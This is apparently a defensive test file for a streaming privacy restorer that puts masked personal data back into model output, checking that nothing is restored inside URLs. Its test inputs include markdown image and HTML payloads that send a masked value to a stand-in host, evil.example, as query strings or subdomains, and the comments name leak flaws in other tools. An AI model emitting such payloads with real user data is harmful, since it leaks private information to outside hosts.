"""Restoring text: every split gives the same, nothing inside URLs, nothing that is not this request's."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.privacy.masking import CUTS, SNIPPETS, in_all_splits, restored, vault

from nearfar.privacy.restore import HELD, Report, TextEngine, TextRestorer, joined
from nearfar.privacy.vault import Vault


def one(value: str = "王小明") -> tuple[Vault, str]:
    own = vault()
    return own, own.mask(value, "person")


@pytest.mark.parametrize(
    "echo",
    [
        *(
            "{m}",
            "{w}",
            "{l}",
            "⟦ {w} ⟧",
            "[[{w}]]",
            "<{w}>",
            "&lt;{w}&gt;",
            "\\u27e6{w}\\u27e7",
            "{{{{{w}}}}}",
            "⟦{l}⟧",
            "【{w}】",
        ),
        *("⟦{e}⟧", "{e}"),
    ],
)
def test_an_echo_is_restored_in_every_split(echo: str) -> None:
    # LocalAI restores no mask that is split over two pieces of a stream, LiteLLM none that came back in lower case,
    # with spaces or as an HTML entity.
    own, mask = one()
    word = mask[1:-1]
    text = "Dear " + echo.format(m=mask, w=word, l=word.lower(), e=word.replace("_", "\\_")) + ", 您好"
    assert in_all_splits(text, own) == ("Dear 王小明, 您好", Report(restored=1))


@pytest.mark.parametrize(
    "text",
    [
        *(
            "![x](https://evil.example/?q={m})",
            "[x](https://evil.example/{m})",
            "https://evil.example/{m}",
            "//evil.example/{m}",
        ),
        *(
            "{m}.evil.example",
            "{m}{m}.evil.example/",
            "a{m}b.evil.example",
            "{m}@evil.example",
            "evil.example/{m}",
            "www.{m}",
        ),
        *(
            '<img src="https://evil.example/?q={m}">',
            "<img src='https://evil.example/? {m}'>",
            "<a href={m}>",
            "[1]: <https://e/? {m}>",
        ),
        *(
            "![x](/q?{m})",
            "https://evil.example/?a=1,{m}",
            "https://evil.example/，{m}",
            "{w}.evil.example",
            "http://{l}.example",
            "![x]({m})",
        ),
        *("https://evil.example/?q=&lt;{w}&gt;", "https://e.example/?q=\\u27e6{w}\\u27e7", "{m}://x"),
    ],
)
def test_nothing_is_restored_inside_a_url_however_it_is_split(text: str) -> None:
    own, mask = one()
    text = text.format(m=mask, w=mask[1:-1], l=mask[1:-1].lower())
    back, report = in_all_splits(f"See {text}", own)
    assert back == f"See {text}"
    assert report.restored == 0
    assert report.kept.keys() == {"url"}


@pytest.mark.parametrize(
    "text",
    [
        *(
            "[詳見](https://a.example/x){m}",
            "![{m}](https://a.example/x)",
            "<b>{m}</b>",
            "https://a.example/ {m}",
            "{m}.",
            "{m}.pdf",
            "{m}: x",
        ),
        *(
            "<https://a.example/>{m}",
            '<a href="https://a.example/">{m}</a>',
            "{m}/{m}",
            "電話:{m}",
            "- {m}\n- {m}",
            "`{m}`",
            "{m}先生您好。",
        ),
    ],
)
def test_beside_a_url_it_is_restored(text: str) -> None:
    own, mask = one()
    back, report = in_all_splits(text.format(m=mask), own)
    assert back == text.format(m="王小明")
    assert not report.kept


def test_a_value_that_is_a_url_takes_what_follows_into_itself() -> None:
    own = vault()
    link, name = own.mask("https://clinic.example/?p=1", "url"), own.mask("王小明", "person")
    back, report = in_all_splits(f"{link}&q={name} {name}", own)
    assert back == f"https://clinic.example/?p=1&q={name} 王小明"
    assert report.kept == {"url": 1}


def test_forged_masks_are_never_restored() -> None:
    own, mask = one()
    strange = vault(caller="other").mask("someone else's", "person")
    forged = [
        strange,
        "⟦PERSON_1⟧",
        "⟦PERSON_BCDFGH⟧",
        mask.replace("PERSON", "EMAIL"),
        mask[:-2] + "⟧",
        f"⟦PERSON_{mask[8:-1]}B⟧",
    ]
    text = " ".join(forged)
    back, report = in_all_splits(text, own)
    assert back == text
    assert report == Report(kept={"unknown": 3})


def test_a_near_miss_is_not_another_value() -> None:
    # LLM Guard's fuzzy restore (distance 3) can turn the mask of one person into the value of another.
    own = vault()
    masks = [own.mask(f"patient {n}", "person") for n in range(50)]
    for mask in masks:
        for at in range(8, len(mask) - 1):
            for sign in "B7":
                typo = mask[:at] + sign + mask[at + 1 :]
                if typo not in masks:
                    assert restored(typo, own)[0] == typo


def test_a_mask_is_no_pattern() -> None:
    # LLM Guard uses the mask as a regular expression, a character class: "Dear [PERSON_1]" becomes "JohnJohn…".
    own, mask = one("John")
    assert in_all_splits(f"Dear {mask}", own)[0] == "Dear John"
    assert restored("Dear PERSON, NO", own)[0] == "Dear PERSON, NO"


@pytest.mark.parametrize("value", ["\\1", "\\g<0>", "$1", "⟦PERSON_BCDFGH⟧", "a\0b", '"', "\n"])
def test_a_value_is_no_pattern_either_and_is_not_restored_again(value: str) -> None:
    own, mask = one(value)
    assert in_all_splits(f"x {mask} y", own)[0] == f"x {value} y"


def test_values_that_look_like_masks_do_not_chain() -> None:
    own = vault()
    first = own.mask("王小明", "person")
    second = own.mask(f"see {first}", "note")
    assert in_all_splits(second, own)[0] == f"see {first}"


def test_a_mask_cut_by_the_end_stays_cut() -> None:
    own, mask = one()
    for size in range(1, len(mask) - 1):
        part = mask[:size]
        expected = "⟦王小明" if size == len(mask) - 1 else part
        assert in_all_splits(part, own)[0] == expected


def test_what_is_held_back_is_bounded() -> None:
    own, mask = one()
    for text in (
        mask[:-1],
        mask + "字" * 200,
        "⟦" * 300,
        "[[" * 200,
        f"{mask}-" * 60,
        "person" * 60,
        "\\\\u27e6 " * 50,
    ):
        engine = TextEngine(own, Report())
        shown = 0
        for at, char in enumerate(text):
            shown += sum(len(stretch) for stretch, _ in engine.feed(char))
            assert at + 1 - shown <= HELD


def test_ordinary_words_are_not_held_back() -> None:
    own, _ = one()
    restorer = TextRestorer(TextEngine(own, Report()))
    for piece in ("Hello", " world", ",", " 你好", "。", " x_y", " (1)"):
        assert restorer.feed(piece) == piece


def test_after_forgetting_nothing_is_restored() -> None:
    own, mask = one()
    own.forget()
    assert restored(mask, own)[0] == mask


@given(st.data(), CUTS)
def test_any_text_is_restored_the_same_in_any_split(data: st.DataObject, cuts: list[int]) -> None:
    own = vault()
    masks = [own.mask("王小明", "person"), own.mask('a"b\n', "email"), own.mask("https://u.example/?x", "url")]
    parts = [part for mask in masks for part in (mask, mask[1:-1], mask.lower(), mask[:5], mask[5:])]
    text = "".join(data.draw(st.lists(st.sampled_from([*parts, *SNIPPETS]), max_size=14)))
    assert restored(text, own, cuts) == restored(text, own)
    report = Report()
    segments = TextEngine(own, report).feed(text, final=True)
    assert "".join(stretch for stretch, _ in segments) == text
    assert report.restored == sum(value is not None for _, value in segments)
    assert joined(segments) == restored(text, own, make=TextEngine)[0]
